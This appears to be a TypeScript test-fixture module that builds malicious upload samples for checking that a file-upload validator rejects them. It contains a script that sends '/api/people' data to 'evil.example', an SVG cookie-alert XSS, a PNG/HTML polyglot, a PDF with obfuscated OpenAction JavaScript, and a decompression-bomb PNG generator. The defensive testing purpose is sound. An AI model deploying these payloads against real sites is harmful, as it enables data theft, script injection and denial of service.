import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Files an attacker uploads, and honest ones to compare with, made here rather than checked in. */

/** A real photo from a phone: a JPEG whose EXIF names the camera and holds GPS coordinates (a booth worker's home). */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#c04020' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Samsung', Model: 'Galaxy A14' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '28/1 36/1 5000/100', GPSLongitudeRef: 'E', GPSLongitude: '77/1 12/1 0/1' },
    })
    .toBuffer();
}

/** A small honest PNG. */
export function png(width = 8, height = 8): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#2060c0' } })
    .png()
    .toBuffer();
}

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
};

/**
 * A valid one-colour PNG of width × height (1-bit greyscale), built chunk by chunk: 20,000 × 20,000 is ~50 KB on disk
 * and 1.2 GB once a browser decodes it to RGB (more as RGBA). Made in well under a second, where sharp takes a minute.
 */
export function solidPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, adaptive filters, no interlace
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height); // filter byte 0, then black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A minimal well-formed PDF (header, one object, xref offset, %%EOF), with extra dictionary text if given. */
export function pdf(extra = ''): Buffer {
  return Buffer.from(
    `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\nxref\n0 3\ntrailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`,
    'latin1',
  );
}

const PAGE = '<html><body><script>fetch("/api/people").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';

/** What uploads were abused with: each declared (by the attacker) as a photo or a PDF. */
export async function hostileUploads(): Promise<{ name: string; declared: string; bytes: Buffer; code: string }[]> {
  const honest = await png();
  return [
    { name: 'html-as-png', declared: 'image/png', bytes: Buffer.from(PAGE), code: 'file_type_refused' },
    {
      name: 'svg-as-png',
      declared: 'image/png',
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="9" height="9"/></svg>'),
      code: 'file_type_refused',
    },
    { name: 'png-html-polyglot', declared: 'image/png', bytes: Buffer.concat([honest, Buffer.from(PAGE)]), code: 'file_type_refused' },
    { name: 'zeros-as-jpeg', declared: 'image/jpeg', bytes: Buffer.alloc(4096), code: 'file_type_refused' },
    { name: 'zeros-as-pdf', declared: 'application/pdf', bytes: Buffer.alloc(4096), code: 'file_type_refused' },
    {
      name: 'pdf-header-on-zeros',
      declared: 'application/pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4096)]),
      code: 'file_type_refused',
    },
    { name: 'png-header-on-zeros', declared: 'image/png', bytes: Buffer.concat([honest.subarray(0, 33), Buffer.alloc(4096)]), code: 'file_type_refused' },
    {
      name: 'pdf-with-javascript',
      declared: 'application/pdf',
      bytes: pdf('/OpenAction << /S /JavaScript /J#53 (app.alert(1)) >> '),
      code: 'file_type_refused',
    },
    { name: 'png-20000x20000', declared: 'image/png', bytes: solidPng(20_000, 20_000), code: 'file_too_large_pixels' },
  ];
}
